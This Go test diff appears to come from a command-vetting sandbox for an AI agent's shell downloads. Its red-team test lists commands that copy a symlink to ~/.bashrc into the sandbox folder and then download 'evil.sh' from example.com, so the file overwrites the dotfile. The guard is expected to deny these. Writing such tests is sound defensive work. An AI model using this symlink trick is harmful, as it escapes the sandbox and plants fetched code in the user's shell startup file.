@@ -89,3 +89,75 @@ func TestCurlFollowsOutputLink(t *testing.T) {
 		t.Errorf("curl -O did not write through the link: canary holds %q", got)
 	}
 }
+
+// TestDownloadThroughCopiedLink (red team 15 RG5): a copy that keeps a
+// symbolic link a link (cp -P/-d/-a, cp -r, mv, rsync -l/-a) of a link on
+// disk or made earlier in the command puts that link in the sandbox, and
+// a download the rewrite moves there writes its target: denied. Copies
+// that follow links (cp, cp -L, rsync without -l) and copies of ordinary
+// files pass. Real cp and mv (where present) show that the copy is a link
+// with the source's target.
+func TestDownloadThroughCopiedLink(t *testing.T) {
+	t.Parallel()
+	cfg := scratchProject(t, map[string]string{
+		"proj/README.md": "hi\n",
+		"home/.bashrc":   "# rc\n",
+		"tmp/plain.sh":   "echo\n",
+	})
+	tmp := filepath.Join(filepath.Dir(cfg.Project), "tmp")
+	if err := os.Symlink(filepath.Join(cfg.Home, ".bashrc"), filepath.Join(tmp, "l")); err != nil {
+		t.Fatal(err)
+	}
+	checkDecisions(t, cfg, []struct{ cmd, want string }{
+		{"mkdir -p agent_sandbox && cp -P ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "deny"},
+		{"mkdir -p agent_sandbox && cp -a ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "deny"},
+		{"mkdir -p agent_sandbox && cp -d ../tmp/l agent_sandbox/; curl -s https://example.com/x -o l", "deny"},
+		{"mkdir -p agent_sandbox && rsync -l ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "deny"},
+		{"mkdir -p agent_sandbox && ln -s ~/.bashrc ../tmp/m && cp -P ../tmp/m agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "deny"},
+		{"mkdir -p agent_sandbox && ln -s ~/.bashrc ../tmp/m && mv ../tmp/m agent_sandbox/evil.sh; wget -q https://example.com/evil.sh", "deny"},
+		// The last of -L and -a wins, as GNU cp reads them.
+		{"mkdir -p agent_sandbox && cp -L -a ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "deny"},
+		// Look-alikes: copies that follow the link, copies of files.
+		{"mkdir -p agent_sandbox && cp ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "rewrite"},
+		{"mkdir -p agent_sandbox && cp -a -L ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "rewrite"},
+		{"mkdir -p agent_sandbox && cp -a ../tmp/plain.sh agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "rewrite"},
+		{"mkdir -p agent_sandbox && cp -P ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/other.sh", "rewrite"},
+	})
+	for _, tc := range [][]string{{"cp", "-P"}, {"cp", "-a"}, {"cp", "-L", "-a"}, {"mv"}} {
+		if _, err := exec.LookPath(tc[0]); err != nil {
+			continue
+		}
+		dir := t.TempDir()
+		canary := filepath.Join(dir, "canary")
+		if err := os.WriteFile(canary, []byte("x\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Symlink(canary, filepath.Join(dir, "l")); err != nil {
+			t.Fatal(err)
+		}
+		args := append(append([]string{}, tc[1:]...), filepath.Join(dir, "l"), filepath.Join(dir, "copy"))
+		if out, err := exec.Command(tc[0], args...).CombinedOutput(); err != nil {
+			t.Fatalf("%s %v: %v\n%s", tc[0], args, err, out)
+		}
+		if got, err := os.Readlink(filepath.Join(dir, "copy")); err != nil || got != canary {
+			t.Errorf("%s %v: the copy is not a link to the canary (%q, %v)", tc[0], tc[1:], got, err)
+		}
+	}
+	// cp -a -L follows the link: the copy is a file.
+	if _, err := exec.LookPath("cp"); err == nil {
+		dir := t.TempDir()
+		canary := filepath.Join(dir, "canary")
+		if err := os.WriteFile(canary, []byte("x\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Symlink(canary, filepath.Join(dir, "l")); err != nil {
+			t.Fatal(err)
+		}
+		if out, err := exec.Command("cp", "-a", "-L", filepath.Join(dir, "l"), filepath.Join(dir, "copy")).CombinedOutput(); err != nil {
+			t.Fatalf("cp -a -L: %v\n%s", err, out)
+		}
+		if fi, err := os.Lstat(filepath.Join(dir, "copy")); err != nil || fi.Mode()&os.ModeSymlink != 0 {
+			t.Errorf("cp -a -L: the copy is a link (%v)", err)
+		}
+	}
+}
